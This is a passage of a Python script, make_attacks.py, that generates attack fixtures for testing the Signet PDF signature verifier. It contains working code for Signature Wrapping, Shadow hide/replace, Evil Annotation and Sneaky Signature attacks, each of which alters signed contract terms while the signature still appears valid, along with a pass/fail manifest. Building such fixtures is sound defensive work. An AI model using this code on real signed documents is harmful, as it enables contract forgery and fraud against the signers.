        # redefinition of the page content object (what an xref-reconstructing reader shows).
        gap = cms_hex + b">>\nendobj\n" + payload
        need(len(gap) <= c - b, "CMS plus payload does not fit in the /Contents placeholder")
        data = base[:b] + gap + b"\n" * (c - b - len(gap)) + base[c:]
        self.emit("swa-gap-payload.pdf", "SWA", "fail", True,
                  "Signature Wrapping on honest-approval, /ByteRange unchanged (digest and CMS still "
                  "valid): /Contents is cut to the bare CMS and the signature dictionary closed early; "
                  "the rest of the excluded gap holds a redefinition of page 1's content object "
                  "(clause 3 changed): the gap is no longer exactly the /Contents string", data)

        # (2) The second range starts later: the gap swallows the signature dictionary's
        # signed tail, which is replaced by `>>endobj` + payload.
        k = sig.obj_end - c
        while base[c + k : c + k + 1] in (b"\r", b"\n"):
            k += 1
        region = cms_hex + b">>\nendobj\n" + payload
        need(len(region) <= c + k - b, "payload does not fit")
        data = base[:b] + region + b"\n" * (c + k - b - len(region)) + base[c + k :]
        data = data[: sig.br_value_start] + fixed_byte_range([0, b, c + k, d - k], br_width) + data[sig.br_end :]
        need(len(data) == len(base), "length changed")
        self.emit("swa-gap-extended.pdf", "SWA", "fail", False,
                  "Signature Wrapping on honest-approval: /ByteRange rewritten (same width) so the "
                  "second range starts later and the gap also covers the signed bytes after /Contents "
                  "(the dictionary's /M, /Name and endobj), now replaced by `>>endobj` and a "
                  "redefinition of page 1's content object (clause 3 changed); the gap is larger than "
                  "/Contents and the digest no longer matches", data)

        # (3) Classic: the signed tail is moved to the end of the file and the second range
        # rewritten to cover the copy; its old place holds a same-size block with the
        # malicious object, an xref section for the relocated objects, and, exactly where the
        # old xref was (so the copied startxref leads to it), the attacker's newest xref.
        tail = base[c:]
        x_rel = pdf.startxref - c
        need(0 < x_rel < len(tail), "the last xref is not in the signed tail")
        _off, entries, trailer = pdf.sections[0]
        m = bytearray(b">>\nendobj\n")
        obj_off = c + len(m)
        m += payload
        xref2 = c + len(m)
        reloc = {n: (o + len(tail) if o >= c else o) for n, (o, _g) in entries.items()}
        m += xref_table(reloc, with_free_head=False)
        t2 = dict(trailer)
        m += b"trailer\n" + ser(t2) + b"\n"
        need(len(m) <= x_rel, "malicious block does not fit before the old xref position")
        m += b"\n" * (x_rel - len(m))
        t1 = {N(b"Size"): trailer[N(b"Size")]}
        for key in (b"Root", b"Info", b"ID"):
            if N(key) in trailer:
                t1[N(key)] = trailer[N(key)]
        t1[N(b"Prev")] = xref2
        m += xref_table({num: obj_off}, with_free_head=False) + b"trailer\n" + ser(t1) + b"\n"
        need(len(m) <= len(tail), "attacker xref does not fit in the old tail")
        m += b" " * (len(tail) - len(m))
        head = base[: sig.br_value_start] + fixed_byte_range([0, b, c + len(tail), d], br_width) + base[sig.br_end : c]
        data = head + bytes(m) + tail
        self.emit("swa-relocated.pdf", "SWA", "fail", False,
                  "classic Signature Wrapping on honest-approval: the signed tail after /Contents is "
                  "copied to the end of the file and /ByteRange rewritten (same width) to cover the "
                  "copy; the old place holds a same-size block with a redefinition of page 1's content "
                  "object (clause 3 changed) and two xref sections, the newest exactly where the old "
                  "xref was, so the copied startxref leads to the attacker's xref", data)

    # -- Shadow attacks --------------------------------------------------------------

    def shadow_base(self, kind: str) -> str:
        """Write the attacker's unsigned document for a shadow attack; return its path."""
        font = ser({N(b"Type"): N(b"Font"), N(b"Subtype"): N(b"Type1"), N(b"BaseFont"): N(b"Helvetica"),
                    N(b"Encoding"): N(b"WinAnsiEncoding")})
        info = ser({N(b"Title"): PdfStr(b"Service Agreement"), N(b"Producer"): PdfStr(b"make_attacks.py")})
        page = {N(b"Type"): N(b"Page"), N(b"Parent"): Ref(2), N(b"MediaBox"): [0, 0, 595, 842],
                N(b"Resources"): {N(b"Font"): {N(b"F1"): Ref(3)}}}
        catalog = {N(b"Type"): N(b"Catalog"), N(b"Pages"): Ref(2)}
        objs = {2: ser({N(b"Type"): N(b"Pages"), N(b"Kids"): [Ref(5)], N(b"Count"): 1}), 3: font, 4: info}
        evil_lines = [EVIL_LINES.get(i, l) for i, l in enumerate(SHADOW_LINES)]
        if kind == "hide":
            # The real (evil) text, and an overlay the signer sees: white boxes over the evil
            # lines with the benign text on top.
            objs[6] = stream_obj({}, contract_content("Service Agreement", evil_lines))
            overlay = b""
            for i in sorted(EVIL_LINES):
                overlay += white_box_text(70, line_y(i) - 4, 470, 15, [SHADOW_LINES[i]], line_y(i), 72)
            objs[7] = stream_obj({}, overlay)
            page[N(b"Contents")] = [Ref(6), Ref(7)]
        elif kind == "hide-and-replace":
            objs[6] = stream_obj({}, contract_content("Service Agreement", SHADOW_LINES))
            objs[7] = stream_obj({}, contract_content("Service Agreement", evil_lines))  # unused
            page[N(b"Contents")] = Ref(6)
        elif kind == "replace":
            lines = SHADOW_LINES[:1] + [
                "2. The Customer shall pay the monthly fee entered below for the Services.",
                "",
                "Monthly fee:",
            ] + SHADOW_LINES[2:]
            objs[6] = stream_obj({}, contract_content("Service Agreement", lines))
            y = line_y(3) - 4
            rect = [150, y, 350, y + 16]
            objs[7] = ser({
                N(b"FT"): N(b"Tx"), N(b"T"): PdfStr(b"Fee"), N(b"V"): PdfStr(b"EUR 950.00"),
                N(b"DA"): PdfStr(b"/Helv 11 Tf 0 g"), N(b"Type"): N(b"Annot"), N(b"Subtype"): N(b"Widget"),
                N(b"Rect"): rect, N(b"F"): 4, N(b"P"): Ref(5), N(b"AP"): {N(b"N"): Ref(8)},
            })
            objs[8] = tx_appearance(200, 16, "EUR 950.00")
            page[N(b"Contents")] = Ref(6)
            page[N(b"Annots")] = [Ref(7)]
            catalog[N(b"AcroForm")] = {N(b"Fields"): [Ref(7)], N(b"DA"): PdfStr(b"/Helv 0 Tf 0 g"),
                                       N(b"DR"): {N(b"Font"): {N(b"Helv"): Ref(3)}}}
        else:
            raise Fail(f"unknown shadow kind {kind}")
        objs[1] = ser(catalog)
        objs[5] = ser(page)
        path = self.work(f"shadow-{kind}-unsigned.pdf")
        data = write_pdf(objs, info=4)
        Pdf(data, path).check()
        with open(path, "wb") as f:
            f.write(data)
        return path

    def shadow(self) -> None:
        s = self.s
        # Hide: the update drops the overlay stream from the page's /Contents.
        s.sign(self.shadow_base("hide"), self.path("honest-shadow-hide-base.pdf"), field="Signer1",
               rect="60,60,260,150")
        self.emit("honest-shadow-hide-base.pdf", "none", "pass", True,
                  "attacker-prepared document as signed: page 1's /Contents is [real text, overlay]; "
                  "the overlay paints white boxes with benign terms over clauses 2 and 4 (what the "
                  "signer saw is what is signed)")
        pdf = Pdf(self.read("honest-shadow-hide-base.pdf"))
        page = pdf.pages()[0]
        pd = dict(pdf.resolve(page))
        contents = pd[N(b"Contents")]
        need(isinstance(contents, list) and len(contents) == 2, "shadow-hide page lost its two streams")
        pd[N(b"Contents")] = [contents[0]]
        up = Update(pdf)
        up.put(page.num, ser(pd))
        self.emit("shadow-hide.pdf", "Shadow-Hide", "fail", True,
                  "Shadow attack (hide) on honest-shadow-hide-base: an appended update rewrites only "
                  "page 1's dict, dropping the overlay stream from /Contents, which reveals the signed "
                  "but hidden clauses (EUR 95,000 fee, termination without notice); no new content "
                  "objects", up.finish())

        # Hide-and-replace: the update points /Contents at the unused, already signed stream.
        s.sign(self.shadow_base("hide-and-replace"), self.path("honest-shadow-hide-and-replace-base.pdf"),
               field="Signer1", rect="60,60,260,150")
        self.emit("honest-shadow-hide-and-replace-base.pdf", "none", "pass", True,
                  "attacker-prepared document as signed: carries an unreferenced second complete page "
                  "content stream (object 7) with different terms")
        pdf = Pdf(self.read("honest-shadow-hide-and-replace-base.pdf"))
        page = pdf.pages()[0]
        pd = dict(pdf.resolve(page))
        need(pd[N(b"Contents")] == Ref(6), "unexpected page contents in the hide-and-replace base")
        pd[N(b"Contents")] = Ref(7)
        up = Update(pdf)
        up.put(page.num, ser(pd))
        self.emit("shadow-hide-and-replace.pdf", "Shadow-Hide-and-Replace", "fail", True,
                  "Shadow attack (hide-and-replace) on honest-shadow-hide-and-replace-base: an appended "
                  "update rewrites only page 1's dict so /Contents points at the unused signed stream "
                  "(object 7: EUR 95,000 fee, termination without notice)", up.finish())

        # Replace: a text field; the honest update fills it, the attack also enlarges the widget
        # over the page text with an opaque appearance.
        s.sign(self.shadow_base("replace"), self.path("honest-shadow-replace-base.pdf"), field="Signer1",
               rect="60,60,260,150")
        self.emit("honest-shadow-replace-base.pdf", "none", "pass", True,
                  "attacker-prepared document as signed: a text field Fee (/FT /Tx, /V EUR 950.00) "
                  "with its appearance, below clause 2")
        pdf = Pdf(self.read("honest-shadow-replace-base.pdf"))
        fee = pdf.field("Fee")
        fd = dict(pdf.resolve(fee))
        rect = fd[N(b"Rect")]
        w, h = rect[2] - rect[0], rect[3] - rect[1]

        up = Update(pdf)
        ap = up.new()
        up.put(ap, tx_appearance(w, h, "EUR 1,200.00"))
        honest = dict(fd)
        honest[N(b"V")] = PdfStr(b"EUR 1,200.00")
        honest[N(b"AP")] = {N(b"N"): Ref(ap)}
        up.put(fee.num, ser(honest))
        self.emit("honest-form-fill.pdf", "none", "pass", True,
                  "honest-shadow-replace-base plus an update filling the text field Fee: new /V "
                  "(EUR 1,200.00) and a new /AP of the same /Rect (form filling after an approval "
                  "signature is permitted)", up.finish())

        up = Update(pdf)
        ap = up.new()
        big = [60, 170, 545, 760]
        bw, bh = big[2] - big[0], big[3] - big[1]
        evil_lines = [EVIL_LINES.get(i, l) for i, l in enumerate(SHADOW_LINES)]
        up.put(ap, stream_obj({
            N(b"Type"): N(b"XObject"), N(b"Subtype"): N(b"Form"), N(b"BBox"): [0, 0, bw, bh],
            N(b"Resources"): {N(b"Font"): {N(b"F1"): Ref(3)}},
        }, white_box_text(0, 0, bw, bh, evil_lines, line_y(0) - big[1], 72 - big[0])))
        evil = dict(fd)
        evil[N(b"V")] = PdfStr(b"EUR 95,000.00")
        evil[N(b"Rect")] = big
        evil[N(b"AP")] = {N(b"N"): Ref(ap)}
        up.put(fee.num, ser(evil))
        self.emit("shadow-replace.pdf", "Shadow-Replace", "fail", True,
                  f"Shadow attack (replace via overlay) on honest-shadow-replace-base: the update "
                  f"changes the text field's /V and enlarges its widget /Rect from {rect} to {big} "
                  f"(over the whole contract text), with a new opaque appearance drawing different "
                  f"terms; the font object is untouched", up.finish())

    # -- Evil annotation and sneaky signature ----------------------------------------

    def eaa(self) -> None:
        pdf = Pdf(self.read("honest-certified-p3.pdf"))
        page = pdf.pages()[0]
        f1 = pdf.resolve(pdf.resolve(page)[N(b"Resources")])
        f1 = pdf.resolve(f1[N(b"Font")])[N(b"F1")]
        up = Update(pdf)
        ap, annot = up.new(), up.new()
        rect = [66, 530, 545, 727]  # clauses on baselines 716, 702, ..., 534
        w, h = rect[2] - rect[0], rect[3] - rect[1]
        lines = [SAMPLE_LINES[i % len(SAMPLE_LINES)] for i in range(14)]
        lines[2] = "3. The Customer shall pay each invoice on the day of receipt, plus 20% fee."
        lines[4] = "5. Only the Supplier may terminate this Agreement, at any time."
        up.put(ap, stream_obj({
            N(b"Type"): N(b"XObject"), N(b"Subtype"): N(b"Form"), N(b"BBox"): [0, 0, w, h],
            N(b"Resources"): {N(b"Font"): {N(b"F1"): f1}},
        }, white_box_text(0, 0, w, h, lines, 716 - rect[1], 72 - rect[0])))
        up.put(annot, ser({
            N(b"Type"): N(b"Annot"), N(b"Subtype"): N(b"FreeText"), N(b"Rect"): rect,
            N(b"Contents"): PdfStr("\n".join(lines).encode("latin-1")), N(b"DA"): PdfStr(b"0 g /Helv 11 Tf"),
            N(b"F"): 4, N(b"P"): page, N(b"AP"): {N(b"N"): Ref(ap)},
        }))
        add_annotation(up, page, Ref(annot))
        self.emit("evil-annotation-p3.pdf", "EAA", "fail", True,
                  f"Evil Annotation Attack on honest-certified-p3: an incremental update adds a "
                  f"/FreeText annotation at {rect} on page 1 whose /AP paints an opaque white box "
                  f"and different clauses over the contract text (P=3 allows annotations, but not "
                  f"ones that draw over the page)", up.finish())

    def ssa(self) -> None:
        # signet refuses to create a new signature field on a certified document (it only fills
        # fields the certifier created), so the new field is written by hand and then signed.
        pdf = Pdf(self.read("honest-certified-p2.pdf"))
        page = pdf.pages()[0]
        up = Update(pdf)
        ap, field = up.new(), up.new()
        rect = [60, 480, 540, 700]
        up.put(ap, stream_obj({N(b"Type"): N(b"XObject"), N(b"Subtype"): N(b"Form"),
                               N(b"BBox"): [0, 0, rect[2] - rect[0], rect[3] - rect[1]]}, b""))
        up.put(field, ser({
            N(b"FT"): N(b"Sig"), N(b"T"): PdfStr(b"Sneaky"), N(b"Type"): N(b"Annot"),
            N(b"Subtype"): N(b"Widget"), N(b"F"): 132, N(b"Rect"): rect, N(b"P"): page,
            N(b"AP"): {N(b"N"): Ref(ap)},
        }))
        add_annotation(up, page, Ref(field))
        add_field(up, Ref(field))
        mid = self.work("sneaky-field-added.pdf")
        with open(mid, "wb") as f:
            f.write(up.finish())
        self.s.sign(mid, self.path("sneaky-signature-p2.pdf"), signer="signer2", field="Sneaky")
        self.emit("sneaky-signature-p2.pdf", "SSA", "fail", True,
                  f"Sneaky Signature Attack on honest-certified-p2: a hand-written update adds a NEW "
                  f"signature field Sneaky (not the pre-created Signer2) whose widget {rect} lies over "
                  f"the contract text of page 1, then the second signer signs it with signet (its seal "
                  f"image drawn over the text); P=2 allows filling the certifier's fields, not adding "
                  f"new ones", None)


def tx_appearance(w: int, h: int, text: str) -> bytes:
    return stream_obj({
        N(b"Type"): N(b"XObject"), N(b"Subtype"): N(b"Form"), N(b"BBox"): [0, 0, w, h],
        N(b"Resources"): {N(b"Font"): {N(b"Helv"): Ref(3)}},
    }, b"/Tx BMC q BT 0 g /Helv 11 Tf 2 4 Td " + lit(text) + b" Tj ET Q EMC\n")


# ---------------------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------------------


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Generate PDF-attack fixtures for the Signet verifier.")
    ap.add_argument("--signet", required=True, help="path to the signet binary")
    ap.add_argument("--out", required=True, help="output directory (must not exist, or be empty)")
    ap.add_argument("--verify", action="store_true",
                    help="also run `signet verify` on every honest fixture and require exit 0")
    args = ap.parse_args(argv)
    try:
        need(os.path.isfile(args.signet) and os.access(args.signet, os.X_OK),
             f"--signet {args.signet}: not an executable file")
        out = os.path.abspath(args.out)
        if os.path.exists(out):
            need(os.path.isdir(out) and not os.listdir(out), f"--out {args.out}: exists and is not an empty directory")
        else:
            os.makedirs(out)
        signet = Signet(os.path.abspath(args.signet), out)
        signet.setup()
        fx = Fixtures(signet, out)
        fx.honest()
        fx.usf()
        fx.isa()
        fx.swa()
        fx.shadow()
        fx.eaa()
        fx.ssa()
        names = [e["file"] for e in fx.manifest]
        need(len(set(names)) == len(names), "duplicate fixture names")
        on_disk = sorted(f for f in os.listdir(out) if f.endswith(".pdf"))
        need(on_disk == sorted(names), f"PDFs on disk {on_disk} differ from the manifest {sorted(names)}")
        if args.verify:
            for e in fx.manifest:
                if e["expect"] == "pass":
                    rc, text = signet.verify(os.path.join(out, e["file"]))
                    need(rc == 0, f"signet verify {e['file']} exited {rc} (honest fixture):\n{text}")
        with open(os.path.join(out, "manifest.json"), "w", encoding="utf-8") as f:
            json.dump(fx.manifest, f, indent=2)
            f.write("\n")
        print(f"wrote {len(fx.manifest)} fixtures and manifest.json to {out}")
        return 0
    except Fail as e:
        print(f"make_attacks.py: error: {e}", file=sys.stderr)
        return 1
    except Exception as e:  # a bug or an unexpected file: say where
        traceback.print_exc()
        print(f"make_attacks.py: error: {type(e).__name__}: {e}", file=sys.stderr)
        return 1


if __name__ == "__main__":
    sys.exit(main())
